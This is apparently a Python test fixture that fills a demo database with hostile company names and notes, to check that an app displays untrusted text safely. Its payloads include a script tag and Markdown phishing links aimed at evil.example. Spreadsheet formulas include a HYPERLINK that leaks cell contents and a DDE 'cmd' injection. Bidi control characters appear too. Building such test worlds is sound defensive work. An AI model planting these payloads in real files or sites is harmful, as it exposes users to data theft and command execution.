"""A hostile test world: the fictional demo world with names, titles and notes an attacker
with import rights could have put into the database (issue 11).

Company, factory, affiliate and product names, addresses, case titles, finding
descriptions, due-diligence and event notes carry Markdown links and images, Streamlit
colour directives, HTML (links, images, scripts), spreadsheet formulas, 4,000-character
strings, control characters, and harmless names full of punctuation ("Foxhollow, Inc.",
"Quillon · Marsh Devices", "Hushbook, Pro 14"). Every URL points to `evil.example`, a
reserved name that never resolves: a page that shows data as text makes no request there.

The world is built through the project's own path (`data.store.create_database` with the
demo world's rows), keeps every score of the demo world (only text changes), and has the
demo accounts plus an admin whose username is an e-mail address (a Markdown autolink).

    from tests.hostile_world import build_hostile_db
    build_hostile_db(tmp_path / "hostile.duckdb")
"""

from __future__ import annotations

from datetime import date
from itertools import cycle
from pathlib import Path

import duckdb
import pandas as pd

from data import demo
from data.access import accounts
from data.store import writes
from data.store.tables import TABLES

EVIL_HOST = "evil.example"

MD_LINK = "[Session expired - sign in again here](https://evil.example/login)"
MD_IMAGE = "![t](http://evil.example/x.png)"
RED = ":red[**Data breach**]"
HTML_LINK = "<a href=https://evil.example>click</a>"
HTML_IMAGE = "<img src=http://evil.example/i.png>"
SCRIPT = "<script>fetch('https://evil.example/s')</script>"
ICON = ":material/warning: :rotating_light:"
AUTOLINK = "see https://evil.example/a or www.evil.example or help@evil.example"

FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "@SUM(1)",
    "-2+3",
    " =1+1",
    "\r=1+1",
)
CONTROL = "Ctl\x1b[31mred\x07bell\x0bvt\u202eRLO\u2066iso"  # no NUL: the importer refuses it
PUNCTUATION = (
    "Foxhollow, Inc.",
    "Quillon · Marsh Devices",
    "Hushbook, Pro 14",
    'Orrin "Quote" / Slash \\ Ltd.',
)

LONG_WORDS = ("Longwinded Fictional Company Name " * 120)[:4000]  # 4,000 characters with spaces
LONG_RUN = ("Nospacefactoryname" * 230)[:4000]  # 4,000 characters, no place to break

MARKUP = (
    f"{MD_LINK} {MD_IMAGE} {RED}",
    f"{HTML_LINK} {HTML_IMAGE} {SCRIPT}",
    f"{ICON} {AUTOLINK}",
)
# Every hostile value, in the order they are handed out.
PAYLOADS = (*MARKUP, *FORMULAS, CONTROL, LONG_WORDS, LONG_RUN, *PUNCTUATION)

EMAIL_ADMIN = "mallory@evil.example"  # an admin whose username would autolink


def _text(base: str, payload: str, index: int) -> str:
    """A hostile value that stays unique (names are shown side by side)."""
    if payload in PUNCTUATION:
        return payload if index < len(PAYLOADS) else f"{payload} {index}"
    if payload.startswith(tuple("=+-@\t\r ")):
        return f"{payload} {base}"  # the formula must stay at the start of the cell
    return f"{base} {payload}"


def hostile_world(today: date | None = None) -> dict[str, pd.DataFrame]:
    """The demo world's tables with hostile text in every free-text column."""
    world = {name: frame.copy() for name, frame in demo.build_world(1, today).items()}

    def spoil(table: str, column: str, every: int = 1) -> None:
        frame = world[table]
        payloads = cycle(enumerate(PAYLOADS))
        for pos in range(0, len(frame), every):
            i, payload = next(payloads)
            base = frame.iloc[pos][column]
            frame.iat[pos, frame.columns.get_loc(column)] = _text(
                "" if pd.isna(base) else str(base), payload, pos // every
            )

    companies = world["companies"]
    # Named ones first: the punctuation names stay exactly as given (tests look for them).
    fixed = {
        "CO0001": PUNCTUATION[0],
        "CO0002": f"Brevant {MD_LINK} {MD_IMAGE} {RED}",
        "CO0003": f"Corvella {HTML_LINK} {HTML_IMAGE} {SCRIPT}",
        "CO0004": FORMULAS[0],
        "CO0005": PUNCTUATION[1],
        "CO0006": FORMULAS[1],
        "CO0007": LONG_WORDS,
        "CO0008": FORMULAS[3] + " Harrowind",
        "CO0009": FORMULAS[4] + " Istrela",
        "CO0010": f"Jovance {RED} {MD_IMAGE}",  # the demo company account's own company
        "CO0011": f"Kelvaro {ICON} {AUTOLINK}",  # has the confirmed retaliation case
        "CO0012": CONTROL,
        "CO0013": LONG_RUN,
        "CO0014": FORMULAS[2] + " Nordquill",
        "CO0015": PUNCTUATION[3],
    }
    companies["name"] = [
        fixed.get(c, n) for c, n in zip(companies["company_id"], companies["name"], strict=True)
    ]

    products = world["product_models"]
    products.iat[0, products.columns.get_loc("name")] = PUNCTUATION[2]
    spoil("product_models", "name", every=3)
    spoil("affiliates", "name", every=2)
    spoil("factories", "legal_name", every=2)
    spoil("factories", "address", every=3)
    spoil("factories", "city", every=5)
    spoil("cases", "title")
    spoil("findings", "description", every=2)
    spoil("due_diligence", "note")
    spoil("events", "note")
    spoil("expectations", "note")  # shown on My contracts and in the company report
    events = world["events"]
    retaliation = events["event_type"] == "retaliation_confirmed"
    events.loc[retaliation, "note"] = f"{MD_LINK} {MD_IMAGE} {RED} {HTML_IMAGE} {FORMULAS[0]}"
    return world


def fill_hostile(con: duckdb.DuckDBPyConnection, today: date | None = None) -> None:
    """Insert the hostile world and its accounts (inside the caller's transaction)."""
    world = hostile_world(today)
    for name, table in TABLES.items():
        con.from_df(world[name][table.column_names]).insert_into(name)
    con.execute("INSERT INTO meta VALUES ('demo', 'true'), ('demo_scale', '1'), ('hostile', 'true')")
    affiliate = con.execute(
        "SELECT affiliate_id FROM contracts GROUP BY affiliate_id ORDER BY count(*) DESC, affiliate_id LIMIT 1"
    ).fetchone()[0]
    for username, role, company, aff in (
        ("demo-admin", "admin", None, None),
        ("demo-affiliate", "affiliate", None, affiliate),
        ("demo-company", "company", demo.DEMO_COMPANY, None),
        (EMAIL_ADMIN, "admin", None, None),
    ):
        accounts.insert_user(con, username, accounts.DEMO_PASSWORD, role, company, aff)


def build_hostile_db(path: Path, today: date | None = None) -> Path:
    """Create the hostile world database at `path` (a new file) and return the path."""
    writes.create(Path(path), lambda con: fill_hostile(con, today))
    return Path(path)
